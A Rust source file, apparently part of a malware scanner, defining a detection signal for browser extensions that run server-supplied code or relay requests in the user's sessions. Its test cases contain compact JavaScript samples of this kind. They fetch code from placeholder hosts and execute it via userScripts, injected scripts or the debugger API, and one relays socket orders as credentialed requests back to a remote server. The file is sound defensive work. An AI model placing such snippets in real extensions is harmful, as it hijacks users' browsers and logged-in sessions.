//! `extension-obeys-server`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-obeys-server",
    description: "The extension runs a server's text by bypassing browser rules, or makes requests in the user's sessions for that server.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ExtensionApi])],
    within: 0,
    only_if: Some(holds),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "chrome.storage.local.get('o',({o})=>{const d=document.createElement('div');d.setAttribute('onreset',o.fn);d.dispatchEvent(new Event('reset'))});fetch('https://c.example/s').then(r=>r.json()).then(o=>chrome.storage.local.set({o}))",
            "fetch('https://c.example/s').then(r=>r.json()).then(({code})=>chrome.userScripts.register([{id:'m',js:[{code}]}]))",
            "chrome.alarms.create('k',{});var ws=new WebSocket('wss://p.example/n');ws.onmessage=async e=>{var j=JSON.parse(e.data);var r=await fetch(j.url,{method:j.method,headers:j.headers,credentials:'include'});ws.send(JSON.stringify({id:j.id,status:r.status,body:await r.text()}))}",
            "chrome.tabs.onUpdated.addListener(async id=>{const code=await (await fetch('https://cfg.example/j')).text();chrome.scripting.executeScript({target:{tabId:id},func:c=>{const s=document.createElement('script');s.textContent=c;document.head.append(s)},args:[code]})})",
            "ws=new WebSocket('wss://o.example/c');ws.onmessage=async m=>{const c=JSON.parse(m.data);chrome.debugger.sendCommand({tabId:c.tab},'Runtime.evaluate',{expression:c.code});fetch('https://o.example/s')}",
        ],
        without: &[
            "ws=new WebSocket('ws://localhost:9000/');ws.onmessage=async m=>{const c=JSON.parse(m.data);chrome.debugger.sendCommand({tabId:c.tab},'Runtime.evaluate',{expression:c.code});fetch('/s')}",
            "chrome.storage.local.get('o',({o})=>{const d=document.createElement('div');d.setAttribute('title',o.text);d.dispatchEvent(new Event('reset'))});fetch('https://c.example/s').then(r=>r.json())",
            "chrome.scripting.executeScript({target,func:(c)=>{document.title=c},args:[c]});fetch('/a').then(r=>r.json())",
            "chrome.alarms.create('k',{});var ws=new WebSocket('wss://p.example/n');ws.onmessage=async e=>{var j=JSON.parse(e.data);show(j.url);ws.send(JSON.stringify({id:j.id,status:1}))}",
        ],
    },
};

/// One of the ways in which it is done.
fn holds(evidence: &Evidence<'_>, held: Held) -> bool {
    runs(evidence, held) || relays(evidence, held)
}

/// Whether a text that is not written here becomes a handler, a user script or the argument of `Function`.
fn runs(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 400);
    let handler = near.words(&["setAttribute"]).any(|at| {
        near.is(at + 1, b'(')
            && near.word(at + 2).starts_with("on")
            && near.word(at + 2).len() > 4
            && near.is(at + 3, b',')
            && near.kind(at + 4) == Some(Kind::Name)
    }) && near.has_word(&["dispatchEvent"]);
    let registered = near.words(&["register"]).any(|at| {
        near.before(at, 1) == "userScripts"
            && (at..at + 40).any(|at| {
                near.word(at) == "code" && (near.is(at + 1, b'}') || near.kind(at + 2) == Some(Kind::Name))
            })
    });
    // `executeScript({func: (c) => Function(c)(), args: [c]})`
    let given = near.words(&["executeScript"]).any(|at| {
        (at..at + 60).any(|at| {
            matches!(near.word(at), "Function" | "eval")
                && near.is(at + 1, b'(')
                && near.kind(at + 2) == Some(Kind::Name)
        }) && (at..at + 60).any(|at| near.word(at) == "args")
            || writes_script(near, at)
    });
    (handler || registered || given || debugs(near))
        && near.has_fact(&[Atom::AnswerBody, Atom::MessageBody, Atom::Request, Atom::Socket])
}

/// Whether what is injected makes a script element of what it is given: `func: text => { script.textContent = text }, args: [text]`.
fn writes_script(near: Near<'_>, at: usize) -> bool {
    let injected = at..at + INJECTED;
    let places = |word: &'static str| injected.clone().filter(move |at| near.word(*at) == word);
    let made = places("createElement").any(|at| near.word(at + 2) == "script");
    let filled = injected.clone().any(|at| {
        matches!(near.word(at), "textContent" | "innerHTML" | "text")
            && near.is(at + 1, b'=')
            && near.kind(at + 2) == Some(Kind::Name)
    });
    made && filled && places("args").next().is_some()
}

/// Items of a function that is injected, with what it is given.
const INJECTED: usize = 160;

/// Whether the debugger runs a text in a tab that comes from another host than this machine.
fn debugs(near: Near<'_>) -> bool {
    let runs = near.words(&["sendCommand"]).any(|at| {
        let command = at + 1..at + 30;
        command.clone().any(|at| near.word(at) == "Runtime.evaluate")
            && command
                .clone()
                .any(|at| near.word(at) == "expression" && near.kind(at + 2) == Some(Kind::Name))
    });
    runs && near.texts().any(|(_, text)| {
        let remote =
            ["https://", "wss://", "ws://", "http://"].iter().find_map(|scheme| text.strip_prefix(scheme));
        remote.is_some_and(|host| {
            !["localhost", "127.", "0.0.0.0", "[::1]"].iter().any(|own| host.starts_with(own))
        })
    })
}

/// Whether orders of a socket say which address is requested, with the sessions of the user, and the answer goes back.
fn relays(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 260);
    let ordered = near.words(&["fetch"]).any(|at| {
        near.is(at + 1, b'(') && near.kind(at + 2) == Some(Kind::Name) && near.word(at + 3) == "url"
    });
    let method =
        near.words(&["method"]).any(|at| near.kind(at) == Some(Kind::Key) && near.word(at + 3) == "method");
    ordered
        && method
        && near.has_word(&["WebSocket"])
        && near.has(&["include"])
        && near.has_word(&["status"])
        && near.has_word(&["send"])
}
